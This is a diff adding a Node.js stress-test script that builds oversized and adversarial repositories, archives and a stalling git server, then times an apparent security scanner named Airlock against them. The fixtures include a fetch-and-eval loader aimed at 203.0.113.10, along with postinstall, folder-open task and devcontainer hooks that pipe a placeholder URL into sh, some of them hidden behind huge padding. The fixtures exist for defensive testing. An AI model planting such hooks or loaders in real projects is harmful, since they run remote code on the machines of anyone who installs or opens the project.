@@ -1,0 +1,286 @@
+// Worst-case wall time and peak memory of the built CLI on generated hostile inputs, one line per
+// case, grouped by family (test/hostile/README.md). Each case is the largest input of its family
+// that Airlock is expected to handle whole or refuse cleanly; the target is under 60 s and 1 GB
+// each. Not part of `npm test` (about 4 minutes).
+// Usage: npm run build && node scripts/hostile-worst-case.mjs [substring of a case name ...]
+import { spawn, spawnSync } from 'node:child_process';
+import { appendFileSync, createWriteStream, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import yazl from 'yazl';
+
+const CLI = new URL('../dist/cli/main.js', import.meta.url).pathname;
+const MiB = 1024 * 1024;
+const LIMIT_S = 60;
+const LIMIT_MB = 1024;
+const root = mkdtempSync(join(tmpdir(), 'airlock-worst-'));
+
+/** Each body is a string, or an array of [chunk, times] pairs written one after another (bigger than a V8 string). */
+function tree(name, files) {
+  const dir = join(root, name);
+  mkdirSync(dir, { recursive: true });
+  for (const [path, body] of Object.entries(files)) {
+    mkdirSync(join(dir, path, '..'), { recursive: true });
+    if (typeof body === 'string') {
+      writeFileSync(join(dir, path), body);
+      continue;
+    }
+    writeFileSync(join(dir, path), '');
+    for (const [chunk, times] of body) for (let i = 0; i < times; i++) appendFileSync(join(dir, path), chunk);
+  }
+  return dir;
+}
+
+function zip(name, entries) {
+  const file = join(root, `${name}.zip`);
+  const z = new yazl.ZipFile();
+  for (const [path, body] of entries) z.addBuffer(body, path);
+  return new Promise(resolve => {
+    z.outputStream.pipe(createWriteStream(file)).on('close', () => resolve(file));
+    z.end();
+  });
+}
+
+const deep = n => '['.repeat(n) + ']'.repeat(n);
+const PKG = JSON.stringify({ name: 'worst', version: '1.0.0', scripts: { postinstall: 'node setup.js' } });
+const LOADER = 'require("http").get("http://203.0.113.10/a", r => r.on("data", d => eval(String(d))));\n';
+
+/** [family, case, make() → args after `scan` (a target and flags)] */
+const cases = [
+  [
+    'read caps',
+    'package.json 256 MiB of padding, postinstall at the end',
+    () => [
+      tree('pkg', {
+        'package.json': `{"description":"${'a'.repeat(256 * MiB)}",\n"scripts":{"postinstall":"curl https://x.example.invalid | sh"}}\n`,
+      }),
+    ],
+  ],
+  [
+    'read caps',
+    'tasks.json 256 MiB comment, folder-open task at the end',
+    () => [
+      tree('tasks-pad', {
+        '.vscode/tasks.json': `{ // ${'p'.repeat(256 * MiB)}\n"tasks":[{"label":"a","command":"curl https://x.example.invalid | sh","runOptions":{"runOn":"folderOpen"}}]}\n`,
+      }),
+    ],
+  ],
+  [
+    'read caps',
+    'JS entry 15 MiB of ordinary lines, loader at the end',
+    () => [
+      tree('js', {
+        'package.json': PKG,
+        'setup.js': `${'const padding = "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";\n'.repeat((15 * MiB) / 48)}${LOADER}`,
+      }),
+    ],
+  ],
+  [
+    'read caps',
+    'JS entry 1 GiB of newlines, eval at the end',
+    () => [
+      tree('lines', {
+        'package.json': PKG,
+        'setup.js': [
+          ['\n'.repeat(64 * MiB), 16],
+          ['eval(process.argv[2]);\n', 1],
+        ],
+      }),
+    ],
+  ],
+  [
+    'read caps',
+    'JS entry of one 15 MiB minified line, loader at the end',
+    () => [tree('minified', { 'package.json': PKG, 'setup.js': `${'var a=1;'.repeat((15 * MiB) / 8)}${LOADER}` })],
+  ],
+  [
+    'special files',
+    'FIFO named package.json, FIFO in .git/objects',
+    () => {
+      const dir = tree('fifo', { 'README.md': '# x\n' });
+      spawnSync('git', ['init', '-q', dir]);
+      spawnSync('mkfifo', [join(dir, 'package.json'), join(dir, '.git', 'objects', 'stall')]);
+      return [dir];
+    },
+  ],
+  [
+    'special files',
+    '1,000 links out of the tree, .vscode among them',
+    () => {
+      const dir = tree('links', { 'package.json': PKG });
+      symlinkSync('/etc', join(dir, '.vscode'));
+      for (let i = 0; i < 1000; i++) symlinkSync('/etc/passwd', join(dir, `l${i}.js`));
+      return [dir];
+    },
+  ],
+  [
+    'format readers',
+    'tsconfig.json and package.json nested 1,000,000 deep',
+    () => [
+      tree('nested', {
+        'package.json': `{"name":"n","scripts":{"dev":"node i.js"},"x":${deep(1_000_000)}}`,
+        'tsconfig.json': `{"compilerOptions":{"paths":${deep(1_000_000)}}}`,
+        'i.js': '1;\n',
+      }),
+    ],
+  ],
+  [
+    'format readers',
+    'lefthook.yml of 1,000,000 nested sequences, YAML alias bomb',
+    () => [
+      tree('yaml-deep', {
+        'package.json': PKG,
+        'lefthook.yml': `pre-commit:\n  commands:\n    x:\n      run: ${'- '.repeat(1_000_000)}x\n`,
+        '.yarnrc.yml': `a: &a [${Array(10).fill('x').join(',')}]\n${Array.from({ length: 8 }, (_, i) => `${'bcdefghi'[i]}: &${'bcdefghi'[i]} [${Array(10).fill(`*${'abcdefghi'[i]}`).join(',')}]`).join('\n')}\n`,
+      }),
+    ],
+  ],
+  [
+    'format readers',
+    'docker-compose.yml of 16 MiB (at the YAML cap), 40,000 services',
+    () => {
+      const services = Array.from(
+        { length: 40_000 },
+        (_, i) =>
+          `  s${i}:\n    image: example/app:${i}\n    command: ["node", "server.js", "--port", "${i}"]\n    environment:\n      - KEY_${i}=${'v'.repeat(300)}\n`,
+      );
+      return [tree('compose', { 'docker-compose.yml': `services:\n${services.join('').slice(0, 16 * MiB - 64)}\n` })];
+    },
+  ],
+  [
+    'regular expressions',
+    'devcontainer.json command padded with 15 MiB of whitespace',
+    () => [
+      tree('regex', {
+        '.devcontainer/devcontainer.json': JSON.stringify({
+          initializeCommand: `echo ok${' \t'.repeat((15 * MiB) / 2)}\n curl -s https://setup.example.invalid/i.sh | sh`,
+        }),
+      }),
+    ],
+  ],
+  [
+    'code analysis',
+    'JS entry nested 100,000 calls deep',
+    () => [tree('js-deep', { 'package.json': PKG, 'setup.js': `${'f('.repeat(100_000)}1${')'.repeat(100_000)};\n${LOADER}` })],
+  ],
+  [
+    'blowups',
+    'package-lock.json of 200,000 packages',
+    () => {
+      const packages = { '': { name: 'big', dependencies: { 'p-0': '1.0.0' } } };
+      for (let i = 0; i < 200_000; i++)
+        packages[`node_modules/p-${i}`] = {
+          version: '1.0.0',
+          resolved: `https://registry.npmjs.org/p-${i}/-/p-${i}-1.0.0.tgz`,
+          dependencies: { [`p-${i + 1}`]: '1.0.0' },
+        };
+      return [
+        tree('npm-lock', {
+          'package.json': JSON.stringify({ name: 'big', dependencies: { 'p-0': '1.0.0' } }),
+          'package-lock.json': JSON.stringify({ name: 'big', lockfileVersion: 3, packages }),
+        }),
+      ];
+    },
+  ],
+  [
+    'blowups',
+    'pnpm-lock.yaml of 200,000 packages (47 MB)',
+    () => {
+      const parts = [
+        "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      p-0:\n        specifier: 1.0.0\n        version: 1.0.0\n\npackages:\n",
+      ];
+      for (let i = 0; i < 200_000; i++)
+        parts.push(`\n  p-${i}@1.0.0:\n    resolution: {integrity: sha512-${'A'.repeat(86)}==}\n    engines: {node: '>=8'}\n`);
+      parts.push('\nsnapshots:\n');
+      for (let i = 0; i < 200_000; i++) parts.push(`\n  p-${i}@1.0.0:\n    dependencies:\n      p-${i + 1}: 1.0.0\n`);
+      return [
+        tree('pnpm-lock', {
+          'package.json': JSON.stringify({ name: 'big', dependencies: { 'p-0': '1.0.0' } }),
+          'pnpm-lock.yaml': parts.join(''),
+        }),
+      ];
+    },
+  ],
+  [
+    'blowups',
+    'tasks.json of 100,000 tasks (12 MB)',
+    () => {
+      const tasks = Array.from({ length: 100_000 }, (_, i) => ({
+        label: `t${i}`,
+        type: 'shell',
+        command: `echo ${i} && node build.js --flag ${i}`,
+        ...(i % 2 ? { runOptions: { runOn: 'folderOpen' } } : {}),
+      }));
+      return [tree('tasks-many', { 'package.json': PKG, '.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks }) })];
+    },
+  ],
+  [
+    'blowups',
+    '100,000 small files',
+    () => {
+      const dir = tree('files', { 'package.json': PKG });
+      for (let d = 0; d < 100; d++) {
+        mkdirSync(join(dir, 'src', `d${d}`), { recursive: true });
+        for (let f = 0; f < 1000; f++) writeFileSync(join(dir, 'src', `d${d}`, `f${f}.js`), `module.exports = ${f};\n`);
+      }
+      return [dir];
+    },
+  ],
+  [
+    'archives',
+    'zip of 2,600 small entries declaring 2.5 GiB',
+    async () => [
+      await zip(
+        'many',
+        Array.from({ length: 2600 }, (_, i) => [`z/${i}.bin`, Buffer.alloc(MiB)]),
+      ),
+    ],
+  ],
+  ['archives', 'zip of one 1 GiB entry of zeros', async () => [await zip('bomb', [['zeros.bin', Buffer.alloc(1024 * MiB)]])]],
+  [
+    'git',
+    'git:// host that accepts and never answers (default --clone-timeout)',
+    () => {
+      const server = createServer(() => {}).listen(0, '127.0.0.1');
+      return new Promise(resolve => server.on('listening', () => resolve([`git://127.0.0.1:${server.address().port}/x`])));
+    },
+  ],
+];
+
+function run(args) {
+  return new Promise(resolve => {
+    const child = spawn('/usr/bin/time', ['-f', '%e %M', process.execPath, CLI, 'scan', ...args, '--format', 'json', '--no-provenance'], {
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', d => (stdout += d));
+    child.stderr.on('data', d => (stderr += d));
+    child.on('close', status => resolve({ status, stdout, stderr }));
+  });
+}
+
+const only = process.argv.slice(2);
+let failed = 0;
+for (const [family, name, make] of cases) {
+  if (only.length > 0 && !only.some(s => `${family} ${name}`.includes(s))) continue;
+  const args = await make();
+  const r = await run(args);
+  const lines = r.stderr.trim().split('\n');
+  const [secs, kb] = (lines.pop() ?? '').split(' ');
+  let verdict;
+  try {
+    verdict = `verdict ${JSON.parse(r.stdout).verdict}`;
+  } catch {
+    verdict = `no report: ${(lines.find(l => l.startsWith('airlock')) ?? '').slice(0, 120)}`;
+  }
+  const mb = Math.round(Number(kb) / 1024);
+  const ok = Number(secs) < LIMIT_S && mb < LIMIT_MB;
+  if (!ok) failed++;
+  console.log(`${ok ? 'ok  ' : 'OVER'} ${family}: ${name}: ${secs} s, ${mb} MB peak RSS, ${verdict}, exit ${r.status}`);
+  for (const a of args) if (a.startsWith(root)) rmSync(a, { recursive: true, force: true });
+}
+rmSync(root, { recursive: true, force: true });
+console.log(failed === 0 ? `every case under ${LIMIT_S} s and ${LIMIT_MB} MB` : `${failed} case(s) over ${LIMIT_S} s or ${LIMIT_MB} MB`);
+process.exit(failed === 0 ? 0 : 1);
